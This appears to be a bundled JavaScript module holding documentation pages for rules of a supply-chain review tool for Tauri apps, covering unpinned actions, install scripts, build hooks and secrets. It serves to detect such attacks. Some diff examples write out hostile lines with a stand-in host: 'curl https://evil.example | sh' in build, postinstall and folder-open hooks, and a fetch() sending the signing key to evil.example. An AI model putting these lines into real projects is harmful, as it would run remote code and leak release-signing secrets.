var __defProp=Object.defineProperty;var __getOwnPropDesc=Object.getOwnPropertyDescriptor;var __getOwnPropNames=Object.getOwnPropertyNames;var __hasOwnProp=Object.prototype.hasOwnProperty;var __export=(target,all)=>{for(var name in all)__defProp(target,name,{get:all[name],enumerable:!0})},__copyProps=(to,from,except,desc)=>{if(from&&typeof from==
"object"||typeof from=="function")for(let key of __getOwnPropNames(from))!__hasOwnProp.call(to,key)&&key!==except&&__defProp(to,key,{get:()=>from[key],enumerable:!(desc=
__getOwnPropDesc(from,key))||desc.enumerable});return to};var __toCommonJS=mod=>__copyProps(__defProp({},"__esModule",{value:!0}),mod);var stdin_exports={};__export(stdin_exports,{rulePage:()=>rulePage});module.exports=__toCommonJS(stdin_exports);var import_shared_acegoprst=require("./shared.acegoprst.js"),
pages={"build/action-unpinned":`# A job runs an action that no commit pins: \`build/action-unpinned\`

Severity: medium; high where the job is given what signs the app.

Since: 0.1.0

A job that builds or releases the app, holds a secret or may write newly uses an action or a workflow of a third party by a tag or a branch. Or one that was pin\
ned to a commit isn't any more.

## Why it matters

The owner of an action can move a tag, and so can whoever takes over the account: in March 2025 the tags of one that 23,000 repositories used were moved to code\
 that printed their secrets. A commit can't be moved.

## What to do

Pin it: \`uses: owner/action@<40 digits> # v1.2.3\`. Dependabot and Renovate keep such pins up to date.

## When it says nothing

- The action is asked for at another tag: its owner decided before.
- Actions of \`actions\`, \`github\` and \`tauri-apps\`, and those of the repository itself.
- The job moves to another file, or gets another name.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags another owner's action

\`.github/workflows/release.yml\`:

\`\`\`diff
       - uses: other/tagged@v1
       - run: npm ci
+      - uses: evil/publish@main
       - run: npx tauri build
         env:
\`\`\`

Job \`release\` of \`release.yml\` newly runs \`uses: evil/publish@main\`, which no commit pins:

\`\`\`
uses: evil/publish@main
\`\`\`

### It says nothing of another commit

\`.github/workflows/release.yml\`:

\`\`\`diff
     steps:
       - uses: actions/checkout@v5
-      - uses: cache/pinned@1111111111111111111111111111111111111111
+      - uses: cache/pinned@2222222222222222222222222222222222222222
       - uses: other/tagged@v1
       - run: npm ci
\`\`\`

<!-- end examples -->

## References

- [GitHub: security hardening for Actions](https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions)\

- [GitHub: permissions of the token](https://docs.github.com/en/actions/security-for-github-actions/security-guides/automatic-token-authentication)
`,"build/agent-text-changed":`# Instructions to agents changed: \`build/agent-text-changed\`

Severity: info; medium for characters that nobody sees.

Since: 0.1.0

\`AGENTS.md\`, \`CLAUDE.md\`, rules of Cursor and the like are new or say something else.

## Why it matters

Agents take them for orders. What they say isn't judged, so that it is named.

## What to do

Read it as you would read code.

## When it says nothing

- Only blank space changes, or the file moves.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags other words

\`AGENTS.md\`:

\`\`\`diff
+Run the tests before you commit.
\`\`\`

\`AGENTS.md\` gives coding agents other instructions:

\`\`\`
AGENTS.md
\`\`\`

### It says nothing of blank space

\`AGENTS.md\`:

\`\`\`diff
-Run the tests.
+Run
+the tests.
\`\`\`

<!-- end examples -->

## References

- [Visual Studio Code: tasks](https://code.visualstudio.com/docs/debugtest/tasks)
- [Development containers: the metadata](https://containers.dev/implementors/json_reference/)
`,"build/build-code-changed":`# Code that runs while building has changed: \`build/build-code-changed\`

Severity: high where a compatible update newly reaches out, medium where another one does; low where it newly can't be followed; else info.

Since: 0.1.0

A crate or package that the app had is there in another version, and its build script, procedural macro or install script has other code.

## Why it matters

Whoever publishes a package may change what it runs on every machine that builds the app, with any release. Most such changes are small: a flag, another version\
 of a compiler. Where the code newly starts programs, asks the network, reads secrets or writes elsewhere, it does what the attacks of the last years did. Toril\
 reads the code and shows the lines; it never says that code is safe.

## What to do

Where the code newly reaches out or can't be followed any more, the finding shows how the script changed: at most 200 lines, with three around each change. It i\
s the main file of the script alone, of at most 64 KiB. Compare the rest of both versions in their archives: \`cargo download\` or \`npm pack\` fetch them without r\
unning anything.

## When it says nothing

- The code is the same.
- The package is new: then \`build/build-script-added\` and its siblings tell.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a patch whose build script newly reaches out

\`src-tauri/Cargo.lock\`:

\`\`\`diff
 [[package]]
 name = "zstd-sys"
-version = "2.0.1"
+version = "2.0.2"
 source = "registry+https://github.com/rust-lang/crates.io-index"
-checksum = "3b9e9b0dd6824f9525170de8d1b72a888ad00db6dad76f38cf713abeb036e845"
+checksum = "bb64382b20be2a3e6740afaf124027c22671e0474b62fa4d06672ab628e0f747"
\`\`\`

The build script of \`zstd-sys 2.0.2\` newly reaches out:

\`\`\`
cargo build  # compiles and runs the build script of zstd-sys 2.0.2
\`\`\`

### It says nothing when the build script stays

\`src-tauri/Cargo.lock\`:

\`\`\`diff
 [[package]]
 name = "zstd-sys"
-version = "2.0.1"
+version = "2.0.2"
 source = "registry+https://github.com/rust-lang/crates.io-index"
-checksum = "3b9e9b0dd6824f9525170de8d1b72a888ad00db6dad76f38cf713abeb036e845"
+checksum = "bb64382b20be2a3e6740afaf124027c22671e0474b62fa4d06672ab628e0f747"
\`\`\`

<!-- end examples -->

## References

- [Cargo: build scripts](https://doc.rust-lang.org/cargo/reference/build-scripts.html)
- [npm: scripts](https://docs.npmjs.com/cli/v11/using-npm/scripts)
`,"build/build-script-added":`# A crate newly runs a build script: \`build/build-script-added\`

Severity: medium where the script reaches out, can't be followed or wasn't looked into, and high where a compatible update brings that, in itself or in a crate \
that it newly needs, since those are merged without reading; else low; info for Tauri's own plugins, which register their permissions that way.

Since: 0.1.0

A crate of the app runs a build script (\`build.rs\`, or the file that its \`Cargo.toml\` names), and no version of it that base locks ran one.

## Why it matters

A build script is a program that cargo compiles and runs before the app is built. It has the rights of whoever builds: on a developer's machine that is their ho\
me folder and their keys, on a build machine the secrets of the release. In August 2026 \`arrayref 0.3.10\` did nothing itself; it newly depended on a crate whose\
 build script downloaded and ran a program.

Cargo.lock doesn't say which crates have one. Toril reads it in the crate's archive, whose hash the lockfile pins.

## What to do

Open the crate's archive (docs.rs shows its source) and read the build script, and what it includes. Code that looks for a compiler or writes into \`OUT_DIR\` is \
what build scripts are for; network addresses, shells and encoded text are not. If it isn't needed, keep the version without it.

## When it says nothing

- A crate that ran a build script before is updated: its publisher could already do it.
- A crate that can't be looked at, because the run is offline or the crate comes from git. That is a gap, not a finding.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a new crate that runs code when it is built

\`src-tauri/Cargo.lock\`:

\`\`\`diff
 version = "1.0.0"
 dependencies = [
+ "ring",
  "tauri",
 ]

 [[package]]
+name = "ring"
+version = "0.17.8"
+source = "registry+https://github.com/rust-lang/crates.io-index"
+checksum = "a8c9b754f0cea63eb2e2bac0f47451a0d4cc20e6a95dad973595aafeeedb6969"
+
+[[package]]
 name = "tauri"
 version = "2.8.0"
\`\`\`

Building the app newly runs the build script of \`ring 0.17.8\`:

\`\`\`
cargo build  # compiles and runs the build script of ring 0.17.8
\`\`\`

### It says nothing when a crate keeps its build script

\`src-tauri/Cargo.lock\`:

\`\`\`diff
 [[package]]
 name = "ring"
-version = "0.17.7"
+version = "0.17.8"
 source = "registry+https://github.com/rust-lang/crates.io-index"
-checksum = "11814a3a52442c67aa5c32740978ef53b3ea6cc26ead9965995e7d34c760d62c"
+checksum = "a8c9b754f0cea63eb2e2bac0f47451a0d4cc20e6a95dad973595aafeeedb6969"

 [[package]]
\`\`\`

<!-- end examples -->

## References

- [Cargo: build scripts](https://doc.rust-lang.org/cargo/reference/build-scripts.html)
- [RUSTSEC-2022-0042: the malicious crate \`rustdecimal\`](https://rustsec.org/advisories/RUSTSEC-2022-0042.html)
- [SLSA: threats to a supply chain](https://slsa.dev/spec/v1.0/threats)
`,"build/configuration-written":`# The build writes what the app may do: \`build/configuration-written\`

Severity: critical.

Since: 0.1.0

A program or build script newly writes \`tauri.conf.json\`, a capability, a permission or \`TAURI_CONFIG\` while the app is built.

## Why it matters

What people review is then not what the app gets. A program that writes the version today may write a window and a capability tomorrow, and no change of a confi\
guration shows it.

## What to do

Commit the files as the build should have them.

## When it says nothing

- A program reads these files.
- The call moves to another file.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a program that writes the configuration

\`scripts/version.mjs\`:

\`\`\`diff
-import { readFileSync } from "node:fs";
+import { readFileSync, writeFileSync } from "node:fs";

 const { version } = JSON.parse(readFileSync("package.json", "utf8"));
 console.log(version);
+writeFileSync("src-tauri/tauri.conf.json", JSON.stringify({ version }));
\`\`\`

\`scripts/version.mjs\` newly writes files that decide what the app may do: \`writeFileSync("src-tauri/tauri.conf.json", JSON.stringify({ version }));\`:

\`\`\`
writeFileSync("src-tauri/tauri.conf.json", JSON.stringify({ version }));
\`\`\`

### It says nothing of a program that reads the configuration

\`scripts/version.mjs\`:

\`\`\`diff
 import { readFileSync } from "node:fs";

-const { version } = JSON.parse(readFileSync("package.json", "utf8"));
+const { version } = JSON.parse(readFileSync("src-tauri/tauri.conf.json", "utf8"));
 console.log(version);
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)
- [npm: scripts](https://docs.npmjs.com/cli/v11/using-npm/scripts)
- [Cargo: build scripts](https://doc.rust-lang.org/cargo/reference/build-scripts.html)
`,"build/hook-changed":`# Building the app runs another command: \`build/hook-changed\`

Severity: medium; high if the command is seen to reach the network, secrets or programs that fetch code.

Since: 0.1.0

A hook (\`beforeDevCommand\`, \`beforeBuildCommand\`, \`beforeBundleCommand\`), the \`runner\` that takes cargo's place, or the \`signCommand\` of the app's configuration\
 is new, or is another command than at base.

## Why it matters

Tauri's CLI starts these commands on every machine that builds the app: those of developers, and the job that signs and releases. They have the whole environmen\
t of the build, with the key that signs updates. A \`runner\` gets everything that cargo would get, and a \`signCommand\` may swap the file that it signs.

## What to do

Read what the command runs. Let it start a script of this repository, where changes of it are reviewed.

## When it says nothing

- The same command by another package manager: \`npm run build\` becomes \`pnpm build\`.
- The command moves into a script that the hook names, or the script gets another name.
- The script that a hook names does something else: that is [\`build/step-changed\`](../step-changed/README.md) or [\`build/step-reaches\`](../step-reaches/README.m\
d).

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a download before the build

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
 {
   "identifier": "com.example.notes",
-  "build": { "beforeBuildCommand": "npm run build" }
+  "build": { "beforeBuildCommand": "curl https://evil.example | sh; npm run build" }
 }
\`\`\`

\`beforeBuildCommand\` newly runs \`curl https://evil.example | sh\`:

\`\`\`
curl https://evil.example | sh  # could read TAURI_SIGNING_PRIVATE_KEY
\`\`\`

### It says nothing of another package manager

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
 {
   "identifier": "com.example.notes",
-  "build": { "beforeBuildCommand": "npm run build" }
+  "build": { "beforeBuildCommand": "pnpm build" }
 }
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)
- [npm: scripts](https://docs.npmjs.com/cli/v11/using-npm/scripts)
- [Cargo: build scripts](https://doc.rust-lang.org/cargo/reference/build-scripts.html)
`,"build/install-script-added":`# A package newly runs an install script: \`build/install-script-added\`

Severity: medium; high where an update within the same major version brings it, in itself or in a package that it newly needs; info where the project's npm bloc\
ks scripts that nobody approved.

Since: 0.1.0

A package of the frontend has an install script (\`preinstall\`, \`install\` or \`postinstall\`, or a native part that is built), and no version of it that base locks\
 had one that runs. It is also told where the project newly lets a script run that it blocked before.

## Why it matters

\`npm ci\` runs these scripts on every developer's machine and on every build machine. Of all releases on npm, 0.023 % of the patches bring a first install script\
, and most of the large attacks of the last years did.

The lockfile says which packages have scripts, and npm believes it, but for a \`binding.gyp\`: npm 10 and 11 build one whatever the lockfile or the package's own \
\`gypfile\` say. So Toril looks into the archive of each new or changed package, whose hash the lockfile pins.

Whether it runs is decided by what the project says: npm 12 runs only what \`allowScripts\` in package.json names, earlier ones run everything, and \`ignore-script\
s\` in \`.npmrc\` runs nothing. Only what an older npm refuses to go by proves that npm 12 is used: \`devEngines.packageManager\`, or \`engines.npm\` together with \`en\
gine-strict\`. Anywhere else Toril takes the script to run. A flag or a variable of a command goes before the files.

## What to do

Look at the script, or the \`binding.gyp\`, in the package's archive: \`npm pack NAME@VERSION\` fetches it without running anything. If you don't need it, install w\
ith \`ignore-scripts=true\`.

## When it says nothing

- A package whose script already ran is updated.
- \`ignore-scripts\` is set, so that no script runs at all. Where only this change sets it, that is a gap: whoever brings a script could bring the setting that hi\
des it.
- A package that can't be looked at, because the run is offline or the package comes from elsewhere than npm's own registry. That is a gap, not a finding.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a new package with an install script

\`package-lock.json\`:

\`\`\`diff
       "version": "1.0.0",
       "dependencies": {
-        "nanoid": "^5.0.9"
+        "nanoid": "^5.0.9",
+        "esbuild": "^0.25.0"
       }
     },
+    "node_modules/esbuild": {
+      "version": "0.25.0",
+      "integrity": "sha512-AwTjLYK4/63/UGDLSQHYRzKHgCUZKTIQcT82KVz3DEgq+DKHtaGbo52BRKl1rAkXz+SBv36CfAu6zFYmOrKaCw==",
+      "hasInstallScript": true,
+      "license": "MIT"
+    },
     "node_modules/nanoid": {
       "version": "5.0.9",
\`\`\`

\`package.json\`:

\`\`\`diff
   "version": "1.0.0",
   "dependencies": {
-    "nanoid": "^5.0.9"
+    "nanoid": "^5.0.9",
+    "esbuild": "^0.25.0"
   }
 }
\`\`\`

Installing the frontend newly runs the install script of \`esbuild 0.25.0\`:

\`\`\`
npm ci  # runs the install script of esbuild 0.25.0
\`\`\`

### It says nothing when the script ran before

\`package-lock.json\`:

\`\`\`diff
       "version": "1.0.0",
       "dependencies": {
-        "esbuild": "^0.24.0"
+        "esbuild": "^0.25.0"
       }
     },
     "node_modules/esbuild": {
-      "version": "0.24.0",
-      "integrity": "sha512-KBUbxMeWvFvDWCIH+mXPz7i7XbRd+TSbU+P3cxod5KNUdpxBQgrgfoZmQAsR9hr1v4nYEzRr/1W/iR6E7nkd8g==",
+      "version": "0.25.0",
+      "integrity": "sha512-AwTjLYK4/63/UGDLSQHYRzKHgCUZKTIQcT82KVz3DEgq+DKHtaGbo52BRKl1rAkXz+SBv36CfAu6zFYmOrKaCw==",
       "hasInstallScript": true,
       "license": "MIT"
\`\`\`

\`package.json\`:

\`\`\`diff
   "version": "1.0.0",
   "dependencies": {
-    "esbuild": "^0.24.0"
+    "esbuild": "^0.25.0"
   }
 }
\`\`\`

<!-- end examples -->

## References

- [npm: scripts](https://docs.npmjs.com/cli/v11/using-npm/scripts)
- [npm: settings](https://docs.npmjs.com/cli/v11/using-npm/config)
- [SLSA: threats to a supply chain](https://slsa.dev/spec/v1.0/threats)
`,"build/install-script-approved":`# An install script may newly run: \`build/install-script-approved\`

Severity: high where the scripts of all packages may run; medium for one package.

Since: 0.1.0

A setting of a package manager lets install scripts run that waited for approval before: of one package, or of all. Or a policy of cargo-deny lets code of a cra\
te pass that its check stopped: a build script, an executable in its archive, or a crate that is left out.

## Why it matters

Most attacks on npm packages of the last years run in an install script, minutes after somebody asked for the package. npm 12, pnpm 10 and bun run such scripts \
only for packages that the project approved. An approval is therefore a permission: it names who may run a program on every developer's machine and on the one t\
hat builds releases. It mostly holds for all later versions too.

## What to do

Read the script. Approve single packages by name, and single versions where the package manager can. Many packages work without their script: it only prints a m\
essage, or fetches a binary that another package brings.

## When it says nothing

- The same approval moves to another file, such as from package.json to \`pnpm-workspace.yaml\`.
- An approval goes, or a package is denied.
- A policy of cargo-deny is narrower than before, by fewer crates or more conditions, or lies behind another one that counts.
- The script of the package runs newly for this, and weighs as much: then that is told, at the package.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a package that is approved

\`package.json\`:

\`\`\`diff
   "packageManager": "pnpm@10.4.0",
   "devDependencies": { "@tauri-apps/cli": "2.8.0" },
-  "pnpm": { "onlyBuiltDependencies": ["esbuild"] }
+  "pnpm": { "onlyBuiltDependencies": ["esbuild", "left-hook"] }
 }
\`\`\`

The install script of \`left-hook\` may newly run when packages are installed:

\`\`\`
npm ci  # may run the install script of left-hook
\`\`\`

### It says nothing when approvals move to the workspace's file

\`package.json\`:

\`\`\`diff
   "name": "notes",
   "packageManager": "pnpm@10.4.0",
-  "devDependencies": { "@tauri-apps/cli": "2.8.0" },
-  "pnpm": { "onlyBuiltDependencies": ["esbuild"] }
+  "devDependencies": { "@tauri-apps/cli": "2.8.0" }
 }
\`\`\`

\`pnpm-workspace.yaml\`:

\`\`\`diff
+onlyBuiltDependencies:
+  - esbuild
\`\`\`

<!-- end examples -->

## References

- [npm: allow-scripts](https://docs.npmjs.com/cli/v11/using-npm/config)
- [pnpm: settings](https://pnpm.io/settings)
- [cargo-deny: bans](https://embarkstudios.github.io/cargo-deny/checks/bans/cfg.html)
- [Bun: trusted dependencies](https://bun.com/docs/install/lifecycle)
`,"build/installer-extended":`# Installing newly runs other code: \`build/installer-extended\`

Severity: high.

Since: 0.1.0

A setting has the package manager run other code while it installs: a hook file, a plugin, a shell, another release of the manager itself.

## Why it matters

Such code runs before and beside all packages. It sees the secrets of the machine, and may change what every package is, after the lockfile was checked. \`.pnpmf\
ile.cjs\` and plugins of Yarn are programs; \`yarnPath\` replaces Yarn by a file; \`script-shell\` and \`node-options\` put a program in front of every script.

## What to do

Read the code that is named. Keep it in the repository, so that its changes are reviewed too, or take it out.

## When it says nothing

- The same setting in another file of the same manager.
- A hook goes.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags another Yarn

\`.yarnrc.yml\`:

\`\`\`diff
 nodeLinker: node-modules
+yarnPath: .yarn/releases/yarn-4.5.0.cjs
\`\`\`

Installing packages newly runs what \`yarnPath: .yarn/releases/yarn-4.5.0.cjs\` names:

\`\`\`
yarn install  # runs what yarnPath: .yarn/releases/yarn-4.5.0.cjs names
\`\`\`

### It says nothing when packages are laid elsewhere

\`.yarnrc.yml\`:

\`\`\`diff
-nodeLinker: node-modules
+nodeLinker: pnp
\`\`\`

<!-- end examples -->

## References

- [pnpm: .pnpmfile.cjs](https://pnpm.io/pnpmfile)
- [Yarn: plugins](https://yarnpkg.com/features/extensibility)
- [npm: config](https://docs.npmjs.com/cli/v11/using-npm/config)
`,"build/lifecycle-script-added":`# Installing packages runs a command of the repository: \`build/lifecycle-script-added\`

Severity: medium; high if the command is seen to reach out; low for what nearly every project has (\`husky\`, \`svelte-kit sync\`).

Since: 0.1.0

A lifecycle script of the repository's own manifest (\`preinstall\`, \`install\`, \`postinstall\`, \`prepare\` and the like) is new, or is another command.

## Why it matters

Package managers run it when anyone installs the frontend's packages: a developer, a reviewer who looks at the branch, each job. No approval holds it back, sinc\
e it is the project's own.

## What to do

Give the script a name that people and jobs call.

## When it says nothing

- A script that the build started before is started when installing, too.
- The command moves into a file or gets another name.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a download after the installation

\`package.json\`:

\`\`\`diff
   "scripts": {
     "build": "vite build",
-    "test": "vitest"
+    "test": "vitest",
+    "postinstall": "curl https://evil.example | sh"
   }
 }
\`\`\`

Installing packages newly runs \`curl https://evil.example | sh\`, by \`postinstall\`:

\`\`\`
curl https://evil.example | sh
\`\`\`

### It says nothing where installing starts what the build starts

\`package.json\`:

\`\`\`diff
   "scripts": {
     "build": "vite build",
-    "test": "vitest"
+    "test": "vitest",
+    "postinstall": "npm run build"
   }
 }
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)
- [npm: scripts](https://docs.npmjs.com/cli/v11/using-npm/scripts)
- [Cargo: build scripts](https://doc.rust-lang.org/cargo/reference/build-scripts.html)
`,"build/opening-runs":`# Opening the repository runs a command: \`build/opening-runs\`

Severity: medium; high if the command is seen to reach out.

Since: 0.1.0

A task of the editor that runs when the folder opens, a setting of the editor that names a program of the repository, a command or a feature of a development co\
ntainer, \`.envrc\`, a hook of husky, lefthook or pre-commit, a server or a hook of a coding agent is new, or is another command.

## Why it matters

It runs on the machine of whoever checks the branch out, before anyone has read it: a reviewer's too. There lie the keys and the logins of a person.

## What to do

Read what it runs before you open the branch.

## When it says nothing

- The command moves to another file or another line.
- A task that people start by its name.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a task that runs when the folder opens

\`.vscode/tasks.json\`:

\`\`\`diff
+{
+  // Tasks.
+  "tasks": [{ "label": "a", "type": "shell", "command": "curl https://evil.example | sh", "runOptions": { "runOn": "folderOpen" } }]
+}
\`\`\`

A task of the editor newly starts \`curl https://evil.example | sh\` for whoever opens the repository:

\`\`\`
curl https://evil.example | sh
\`\`\`

### It says nothing of a task that people start

\`.vscode/tasks.json\`:

\`\`\`diff
+{ "tasks": [{ "label": "a", "type": "shell", "command": "curl https://evil.example | sh" }] }
\`\`\`

<!-- end examples -->

## References

- [Visual Studio Code: tasks](https://code.visualstudio.com/docs/debugtest/tasks)
- [Development containers: the metadata](https://containers.dev/implementors/json_reference/)
`,"build/package-script-changed":`# A script of the frontend changed: \`build/package-script-changed\`

Severity: info; low where it reaches out or can't be followed.

Since: 0.1.0

A script of a manifest above the app runs another command, and nothing that builds the app was seen to start it.

## Why it matters

People and jobs start it by its name, on machines that may hold more than the app.

## What to do

Look at what changed.

## When it says nothing

- The command was in another script before.
- The build runs it: then a rule of the build tells of it.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags another command

\`package.json\`:

\`\`\`diff
   "scripts": {
     "build": "vite build",
-    "test": "vitest"
+    "test": "vitest run"
   }
 }
\`\`\`

\`npm run test\` newly runs \`vitest run\`:

\`\`\`
vitest run
\`\`\`

### It says nothing when a script gets another name

\`package.json\`:

\`\`\`diff
   "scripts": {
     "build": "vite build",
-    "test": "vitest"
+    "check": "vitest"
   }
 }
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)
- [npm: scripts](https://docs.npmjs.com/cli/v11/using-npm/scripts)
- [Cargo: build scripts](https://doc.rust-lang.org/cargo/reference/build-scripts.html)
`,"build/proc-macro-added":`# A crate newly runs inside the compiler: \`build/proc-macro-added\`

Severity: medium where the macros reach out, can't be followed or weren't looked into; high where they reach out or weren't looked into, and a compatible update\
 brings them; else low.

Since: 0.1.0

A crate of the app is a procedural macro, and no version of it that base locks was one.

## Why it matters

The compiler loads a procedural macro as a library and runs it, with the rights of whoever builds and without a sandbox. It sees the code that it is applied to \
and writes what is compiled in its place.

## What to do

Read the macro's source in the crate's archive, above all what it does besides turning tokens into tokens: files, processes, environment variables. Derives of w\
ell-known crates are ordinary; a small new one that a single crate needs deserves the time.

## When it says nothing

- A procedural macro is updated.
- \`crate-type = ["lib"]\` beside \`proc-macro = true\`: cargo builds a plain library then.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a new procedural macro

\`src-tauri/Cargo.lock\`:

\`\`\`diff
 version = "1.0.0"
 dependencies = [
+ "serde",
  "tauri",
 ]

 [[package]]
+name = "serde"
+version = "1.0.219"
+source = "registry+https://github.com/rust-lang/crates.io-index"
+checksum = "88605f51cc026e30fb229939427a45dbef07443bdd732182a98b19518d4784e0"
+dependencies = [
+ "serde_derive",
+]
+
+[[package]]
+name = "serde_derive"
+version = "1.0.219"
+source = "registry+https://github.com/rust-lang/crates.io-index"
+checksum = "915d90b6f2ca13c8fa4d2ec5ff90b4e072969a59027669ea4c47c7fc7fae1a89"
+
+[[package]]
 name = "tauri"
 version = "2.8.0"
\`\`\`

Building the app newly runs the procedural macros of \`serde_derive 1.0.219\`:

\`\`\`
cargo build  # loads the procedural macros of serde_derive 1.0.219 into the compiler
\`\`\`

### It says nothing when a macro is updated

\`src-tauri/Cargo.lock\`:

\`\`\`diff
 [[package]]
 name = "serde_derive"
-version = "1.0.218"
+version = "1.0.219"
 source = "registry+https://github.com/rust-lang/crates.io-index"
-checksum = "285869bb0688cec8fdee20003f427fffa071da720629a6d7f901c95d0af7f26b"
+checksum = "915d90b6f2ca13c8fa4d2ec5ff90b4e072969a59027669ea4c47c7fc7fae1a89"

 [[package]]
\`\`\`

<!-- end examples -->

## References

- [Rust: procedural macros](https://doc.rust-lang.org/reference/procedural-macros.html)
- [Cargo: build scripts](https://doc.rust-lang.org/cargo/reference/build-scripts.html)
- [SLSA: threats to a supply chain](https://slsa.dev/spec/v1.0/threats)
`,"build/secret-in-reach":`# A secret is in reach of more code: \`build/secret-in-reach\`

Severity: medium; high for what signs the app.

Since: 0.1.0

A secret that one step had is given to the whole job. Or a secret newly comes into a job with an unpinned action or with code of strangers.

## Why it matters

A secret of the whole job is in the environment of each action, each tool and each script of a package that the job installs.

## What to do

Give it to the one step that needs it.

## When it says nothing

- A new secret that a step without such code gets.
- The secret moves to another step.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a key that moves from a step to the job

\`.github/workflows/release.yml\`:

\`\`\`diff
   release:
     runs-on: ubuntu-latest
+    env:
+      TAURI_SIGNING_PRIVATE_KEY: \${{ secrets.TAURI_SIGNING_PRIVATE_KEY }}
     steps:
       - uses: actions/checkout@v5
@@
       - run: npm ci
       - run: npx tauri build
-        env:
-          TAURI_SIGNING_PRIVATE_KEY: \${{ secrets.TAURI_SIGNING_PRIVATE_KEY }}
\`\`\`

Job \`release\` of \`release.yml\` newly gives \`TAURI_SIGNING_PRIVATE_KEY\` to all of its steps:

\`\`\`
env: TAURI_SIGNING_PRIVATE_KEY  # could read TAURI_SIGNING_PRIVATE_KEY
\`\`\`

### It says nothing of a secret for one step

\`.github/workflows/release.yml\`:

\`\`\`diff
       - uses: other/tagged@v1
       - run: npm ci
+        env:
+          NPM_READ: \${{ secrets.NPM_READ }}
       - run: npx tauri build
         env:
\`\`\`

<!-- end examples -->

## References

- [GitHub: security hardening for Actions](https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions)\

- [GitHub: permissions of the token](https://docs.github.com/en/actions/security-for-github-actions/security-guides/automatic-token-authentication)
`,"build/secrets-bundled":`# Secrets of the build become part of the app: \`build/secrets-bundled\`

Severity: critical.

Since: 0.1.0

\`envPrefix\` of Vite takes in variables that begin with \`TAURI_\`, or all variables.

## Why it matters

Vite puts each such variable into the code of the pages. \`TAURI_SIGNING_PRIVATE_KEY\` begins with \`TAURI_\`: everyone who has the app can read the key and sign an\
 update with it (CVE-2023-46115).

## What to do

Write \`TAURI_ENV_*\` and beginnings of the app's own.

## When it says nothing

- The beginning is \`TAURI_ENV_\` or \`VITE_\`.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags all variables that begin with TAURI_

\`vite.config.ts\`:

\`\`\`diff
 export default defineConfig({
   clearScreen: false,
+  envPrefix: ["VITE_", "TAURI_"],
 });
\`\`\`

\`envPrefix: "TAURI_"\` puts secrets of the build into the app's pages:

\`\`\`
envPrefix: "TAURI_"  # could read TAURI_SIGNING_PRIVATE_KEY, TAURI_SIGNING_PRIVATE_KEY_PASSWORD
\`\`\`

### It says nothing of TAURI_ENV_

\`vite.config.ts\`:

\`\`\`diff
 export default defineConfig({
   clearScreen: false,
+  envPrefix: ["VITE_", "TAURI_ENV_"],
 });
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)
- [npm: scripts](https://docs.npmjs.com/cli/v11/using-npm/scripts)
- [Cargo: build scripts](https://doc.rust-lang.org/cargo/reference/build-scripts.html)
`,"build/step-changed":`# A step of the build changed: \`build/step-changed\`

Severity: info; low where it can't be followed.

Since: 0.1.0

A command, program or build script that runs while the app is built does something else than before, which was not seen to reach out.

## Why it matters

It runs where the app is built. Most such changes mean nothing; they are listed so that the list of what was looked at is whole.

## What to do

Look at what changed. Write commands so that they can be read: a computed one can't be followed.

## When it says nothing

- Comments and layout change, or the file moves.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags another command behind the same hook

\`package.json\`:

\`\`\`diff
   "name": "notes",
   "scripts": {
-    "build": "vite build",
+    "build": "tsc && vite build",
     "test": "vitest"
   }
\`\`\`

\`beforeBuildCommand\` newly runs \`tsc\`:

\`\`\`
tsc
\`\`\`

### It says nothing of a comment in the settings of the bundler

\`vite.config.js\`:

\`\`\`diff
-export default { clearScreen: false };
+// Keep the screen.
+export default {
+  clearScreen: false,
+};
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)
- [npm: scripts](https://docs.npmjs.com/cli/v11/using-npm/scripts)
- [Cargo: build scripts](https://doc.rust-lang.org/cargo/reference/build-scripts.html)
`,"build/step-reaches":`# A step of the build newly reaches out: \`build/step-reaches\`

Severity: high for the network, decoded text, shells and tools that fetch code; medium for the rest.

Since: 0.1.0

A command, a program of the repository, the settings of a bundler or a build script newly reaches the network, secrets, folders outside, or starts what fetches \
code. Comments and texts don't count. The lines are shown.

## Why it matters

The build runs with the keys that sign and release the app. What it fetches may be another thing tomorrow, and what it reads may leave the machine.

## What to do

Pin what is fetched by a hash or a version, or fetch it in a job without keys.

## When it says nothing

- The call moves to another file, line or script, or a formatter lays it out anew.
- A program starts another local one: a bundler, a compiler, \`git rev-parse\`.
- A test or another script does so, which no build starts.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a download in a program that the build starts

\`scripts/build.mjs\`:

\`\`\`diff
 const commit = execSync("git rev-parse HEAD").toString();
 console.log(commit, names);
+const answer = await fetch("https://evil.example/" + process.env.TAURI_SIGNING_PRIVATE_KEY);
\`\`\`

